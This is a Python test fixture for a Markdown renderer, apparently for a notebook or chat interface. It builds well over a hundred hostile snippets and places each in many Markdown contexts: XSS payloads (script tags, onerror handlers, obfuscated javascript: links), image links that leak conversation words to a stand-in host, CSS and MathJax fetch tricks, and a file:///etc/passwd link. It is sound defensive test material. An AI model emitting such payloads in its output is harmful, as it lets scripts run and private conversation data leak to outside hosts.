"""Hostile Markdown: nothing in it may run, be fetched, or hide what follows."""

from __future__ import annotations

from collections.abc import Sequence

FETCH = "/files/fetched.png"
RUN = "ran()"
IMG = f"<img src={FETCH} onerror={RUN}>"
LEAK = "https://leak.example/?words=secret"
"""Somebody else's address, with words of the conversation in it."""

SNIPPETS = (
    # raw HTML
    IMG,
    f"<script>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</script\n>",
    f"<svg onload={RUN}><image href={FETCH} /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}><summary>x</summary>y</details>",
    f"<style>.jp-Cell {{ visibility: hidden; background: url({FETCH}) }}</style>",
    f"<style>@import '{FETCH}'",
    "<style>.jp-Cell { visibility: hidden }",
    "<!-- hidden",
    "<!-- closed --> <!-->",
    f"<link rel=stylesheet href={FETCH}>",
    f"<iframe src={FETCH}></iframe>",
    f"<object data={FETCH}></object>",
    f"<video src={FETCH} poster={FETCH} autoplay></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}' style='position:fixed;inset:0'>x</a>",
    "<textarea>",
    "<plaintext>",
    "<title>",
    f"<math><mtext></p><style><!--</style>{IMG}",
    "<![CDATA[ x ]]>",
    "<?php x ?>",
    "<!DOCTYPE html>",
    "</div></div></details>",
    f"<base href={FETCH}>",
    f"<div\n{IMG}",
    f"<a href='{IMG}'>",
    f"\\\\{IMG}",
    f"<br>\n{IMG}",
    f"<pre><code>x</code></pre> {IMG}",
    f"<pre><code>\n\n{IMG}\n</code></pre>",
    f"<{IMG}>",
    f"<button data-commandlinker-command='x' onclick={RUN}>x</button>",
    f"<form action={LEAK}><button formaction=javascript:{RUN}>x</button><input type=image src={LEAK}></form>",
    f"<meta http-equiv=refresh content='0; url={LEAK}'>",
    f"<picture><source srcset={LEAK}><img src=x srcset='{LEAK} 2x'></picture>",
    f"<svg><use href={LEAK}#x /><animate onbegin={RUN} attributeName=x dur=1s /></svg>",
    f"<table background={LEAK}><tr><td style='background: url({LEAK})'>x</td></tr></table>",
    f"<audio src={LEAK} autoplay onerror={RUN}></audio>",
    f"<embed src={LEAK}>",
    f"<img/src={LEAK}/onerror={RUN}>",
    f"<a href={LEAK} ping={LEAK} onpointerover={RUN}>x</a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<noscript><p title='</noscript><img src={LEAK} onerror={RUN}>'>",
    f"<img src='data:image/svg+xml,<svg onload={RUN}>' onload={RUN}>",
    # data that would leave in the address of an image
    f"![x]({LEAK})",
    f"![x](<{LEAK}&more words> 'title')",
    "![x](//leak.example/?words=secret)",
    "![x](\\\\leak.example/?words=secret)",
    "![x](https:leak.example/?words=secret)",
    f"![ ][r]\n\nSee below.\n\n[r]: {LEAK} 'x'",
    f"[![see the source]({LEAK})]({LEAK})",
    f"![![x]({LEAK})]({LEAK})",
    f"**![x](\n{LEAK}\n)**",
    f"Source:![x]({LEAK}){{width=1 height=1}}",
    f"![x](data:image/svg+xml;base64,PHN2Zy8+)![x]({LEAK})",
    # images
    f"![x]({FETCH})",
    f"![x](<{FETCH}> 'title')",
    f"![x][ref]\n\n[ref]: {FETCH}",
    f"![ref]\n\n[ref]: {FETCH}",
    f"[![x]({FETCH})](https://example.com)",
    f"!![x]({FETCH})",
    f"\\\\![x]({FETCH})",
    f"![a [b] `c`]({FETCH})",
    f"![x\ny]({FETCH})",
    # links
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](java&#115;cript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#x6A;avascript:{RUN})",
    f"[x](\tjavascript:{RUN})",
    f"[x](\njavascript:{RUN})",
    "[x](data:text/html,<script>ran()</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](command:run-all)",
    f"<javascript:{RUN}>",
    f"[x]\n\n[x]: javascript:{RUN}",
    f"[x][y]\n\n[y]:\njavascript:{RUN}",
    f"> [x]: javascript:{RUN}\n\n[x]",
    f'[x](https://example.com "$" onmouseover={RUN} $")',
    f'[x](https://example.com/$"onmouseover={RUN}$)',
    f'[x](https://example.com/@@0@@) $"onmouseover={RUN} x="$',
    f'[x](https://example.com/&#64;@0@@) $"onmouseover={RUN} x="$',
    f'[x](https://example.com "@\\@0@@") $"onmouseover={RUN} x="$',
    f'[x]: https://example.com "$"onmouseover={RUN}$"\n\n[x]',
    # formulas
    f"${IMG}$",
    f"$${IMG}$$",
    f"$$\n{IMG}\n$$",
    f"\\\\({IMG}\\\\)",
    f"\\\\[{IMG}\\\\]",
    f"\\begin{{align}}{IMG}\\end{{align}}",
    f"$a\n{IMG}",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\style{{background:url({FETCH})}}{{x}}$",
    f"$\\bbox[background:url({FETCH})]{{x}}$",
    "$\\require{html}\\class{x}{y}\\cssId{x}{y}$",
    f"$\\mmlToken{{mi}}[style='background:url({FETCH})']{{x}}$",
    f"$\\includegraphics{{{FETCH}}}$",
    f"&#36;\\href{{javascript:{RUN}}}{{x}}&#36;",
    f"&dollar;\\href{{javascript:{RUN}}}{{x}}&dollar;",
    # code that not every parser takes for code
    f"`$` a $ {IMG} ` $",
    f"$x ` y$ {IMG} `",
    f"`$\n$ {IMG}`",
    f"`a\n{IMG}`",
    f"\\`{IMG}`",
    f"\\\\`a $ {IMG}` $",
    f"`` a ` $ `{IMG}` $",
    f"www.example.com`{IMG}`",
    f"~~a `~~ {IMG}`",
    f"*a < b `c>* {IMG}`",
    f"[a ``](https://example.com) {IMG}``",
    f"`a | {IMG}` | b\n--|--\nx | y",
    f"    {IMG}",
    f"\t{IMG}",
    f"- a\n\n      {IMG}",
    f"- a\n\n\t\t{IMG}",
    f"a $b\n- ```\n  $ {IMG}\n  ```",
    f"- ```\n  $ a\n  ```\n  text$\n  ```\n  {IMG}\n  ```",
    f"> ```\n> $ a\n> ```\n> $\n> ```\n> {IMG}\n> ```",
    f"`\\begin{{a}}`\n```\n\\end{{a}}\n{IMG}\n```",
    f"[a]:\n```\n{IMG}\n```",
    f"[a]: https://example.com 't\n```\nb'\n{IMG}\n```",
    f"[\n\n```\n{IMG}]: x\n```",
    f"```|~~~\n|-|-|\n```\n{IMG}\n```",
    f"```\n```~~\n{IMG}\n```",
    f"- \n   ```\n\n---\n```\n{IMG}\n```",
    f"~~~~\n~~~\n{IMG}\n~~~~~",
    f"```\n\u2028```\u2028{IMG}\n```",
    f'~~~$"onmouseover={RUN} x="$\nx\n~~~',
    "```mermaid\nflowchart LR\n  a@{ img: '/files/fetched.png' }\n```",
    f"```mermaid\n%%{{init: {{'themeCSS': '.node {{ background: url({FETCH}) }}'}}}}%%\nflowchart LR\n  a-->b\n```",
    f"``` mer&#109;aid\nflowchart LR\n  a@{{ img: '{FETCH}' }}\n```",
    f"- ~~~mermaid\n  flowchart LR\n    a@{{ img: '{FETCH}' }}\n  ~~~",
    f"~~~\n# {IMG}\n~~~",
    f"````\n```\n# {IMG}\n```\n````",
    f"```a```\n\n```\n# {IMG}\n```",
    f"```\n<h1>{IMG}</h1>\n```",
    f"```html\n{IMG}",
    f"> ```html\n> {IMG}",
)


def marked(snippets: Sequence[str]) -> list[str]:
    """Snippets that call and fetch by their number."""
    found = []
    for n, snippet in enumerate(snippets):
        called = snippet.replace(RUN, f"ran({n})")
        found.append(called.replace("fetched.png", f"fetched-{n}.png").replace("/?words", f"/fetched-{n}?words"))
    return found


def nested(prefix: str, text: str, first: str | None = None) -> str:
    """Lines behind a bullet or a quote mark."""
    head, *rest = text.split("\n")
    return "\n".join([(prefix if first is None else first) + head, *(prefix + line for line in rest)])


def placed(snippet: str) -> dict[str, str]:
    """A snippet alone, within other Markdown, and after something left unclosed."""
    return {
        "alone": snippet,
        "list": nested("  ", snippet, "- "),
        "ordered": "1. one\n" + nested("   ", snippet, "2. "),
        "quote": nested("> ", snippet),
        "deep": nested("> - ", snippet, "> - "),
        "table": f"| a | b |\n|---|---|\n| x | {snippet} |",
        "heading": f"## {snippet}",
        "behind text": f"Words\n{snippet}\nand words",
        "behind a comment": f"<!-- open\n\n{snippet}",
        "behind a style": f"<style>\n\n{snippet}",
        "behind a dollar": f"It costs $5,\n{snippet}",
        "behind a tick": f"A ` tick,\n{snippet}",
        "behind a bracket": f"[open\n\n{snippet}",
        "behind a list's fence": f"- ```\n  x\n\n{snippet}",
        "behind a quote's fence": f"> ```\n> x\n\n{snippet}",
    }


DOCUMENTS = {f"{snippet!r} {where}": text for snippet in SNIPPETS for where, text in placed(snippet).items()}
